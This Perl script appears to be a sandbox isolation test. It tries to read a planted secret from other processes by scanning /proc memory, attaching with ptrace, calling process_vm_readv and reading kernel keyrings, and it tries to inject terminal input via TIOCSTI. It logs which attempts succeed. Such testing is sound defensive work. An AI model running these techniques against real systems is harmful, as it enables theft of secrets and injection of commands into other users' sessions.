# Attempts by system calls for which the shell has no command: perl syscalls.pl RESULTS. See attack.sh for variables and results.
use strict;
use warnings;
no warnings 'portable';
use POSIX ();

my ($results) = @ARGV;
my $machine = (POSIX::uname())[4];
# ptrace, add_key, request_key, keyctl, process_vm_readv
my %numbers = (x86_64 => [101, 248, 249, 250, 310], aarch64 => [117, 217, 218, 219, 270]);
my ($ptrace, $add_key, $request_key, $keyctl, $vm_read) = @{ $numbers{$machine} || exit 0 };
my $secret = qr/svc-fence-secret-[a-z]+/;
my ($SESSION, $USER_SESSION, $USER) = (-3, -5, -4);
my ($ATTACH, $TIOCSTI, $READ, $SEARCH) = (16, 0x5412, 11, 10);

sub attempt {
    my ($name, $try) = @_;
    my $found = eval { $try->() };
    open my $out, '>>', "$results/$name" or die $!;
    print $out defined $found && $found ne '' ? "$found\n" : "failed: $! $@\n";
    close $out;
    return unless defined $found && $found ne '';
    open my $succeeded, '>>', "$results/succeeded" or die $!;
    print $succeeded "$name\n";
}

# Memory of all processes that are visible, except this one.
sub memory {
    for my $folder (grep { $_ ne "/proc/$$" } glob '/proc/[0-9]*') {
        open my $maps, '<', "$folder/maps" or next;
        open my $memory, '<:raw', "$folder/mem" or next;
        my $left = 16 << 20;
        while (my $line = <$maps>) {
            my ($from, $to, $path) = $line =~ /^([0-9a-f]+)-([0-9a-f]+) rw\S+ \S+ \S+ \d+\s*(.*)$/ or next;
            next if $path =~ m{^/};
            my $size = hex($to) - hex($from);
            $size = $left if $size > $left;
            last if $size <= 0;
            $left -= $size;
            sysseek $memory, hex($from), 0 or next;
            sysread $memory, my $bytes, $size or next;
            return "$folder $&" if $bytes =~ $secret;
        }
    }
    return '';
}

# A process of the sandbox may have the same number.
sub outside { grep { !-e "/proc/$_" } ($ENV{VICTIM_PID}, $ENV{SERVICE_PID}) }

sub keys_of {
    my ($ring) = @_;
    my $key = syscall($keyctl, $SEARCH, $ring, my $type = 'user', my $name = 'svc-fence', 0);
    return $key < 0 ? '' : read_key($key);
}

sub read_key {
    my ($key) = @_;
    my $bytes = "\0" x 200;
    my $size = syscall($keyctl, $READ, $key, $bytes, 200, 0);
    return $size < 0 ? '' : substr $bytes, 0, $size;
}

attempt('memory', \&memory);
attempt('ptrace', sub { join ' ', grep { syscall($ptrace, $ATTACH, $_ + 0, 0, 0) == 0 } outside() });
attempt('memory-of-service', sub { join ' ', grep { open my $mem, '+<', "/proc/$_/mem" } outside() });
attempt('process-vm-read', sub {
    my ($bytes, @reached) = ("\0" x 8);
    for my $pid (outside()) {
        my $own = pack 'pQ', $bytes, 8;
        my $other = pack 'QQ', 0x400000, 8;
        my $read = syscall($vm_read, $pid + 0, $own, 1, $other, 1, 0);
        # Not permitted, or no such process. A wrong address is reported for a process that can be read.
        push @reached, $pid if $read >= 0 || $!{EFAULT};
    }
    return "@reached";
});

attempt('terminal', sub { open my $tty, '+<', '/dev/tty' or return ''; return 'opened' });
attempt('terminal-input', sub {
    my @reached;
    for my $path ('/dev/tty', glob('/dev/pts/[0-9]*'), map { "/proc/self/fd/$_" } 0 .. 9) {
        open my $tty, '<', $path or next;
        push @reached, $path if ioctl $tty, $TIOCSTI, my $typed = 'x';
    }
    return "@reached";
});

attempt('keyring', sub { join ' ', grep { $_ ne '' } map { keys_of($_) } $SESSION, $USER_SESSION, $USER });
attempt('keyring-request', sub {
    my $key = syscall($request_key, my $type = 'user', my $name = 'svc-fence', 0, 0);
    return $key < 0 ? '' : read_key($key);
});
attempt('keyring-by-number', sub { $ENV{KEY} ? read_key($ENV{KEY} + 0) : '' });
# A key that an earlier turn left, of any runtime.
attempt('keyring-left', sub {
    my $found = syscall($keyctl, $SEARCH, $SESSION, my $type = 'user', my $name = 'svc-fence-left', 0);
    syscall($add_key, $type, $name, my $value = 'left', 4, $SESSION);
    return $found < 0 ? '' : 'found';
});
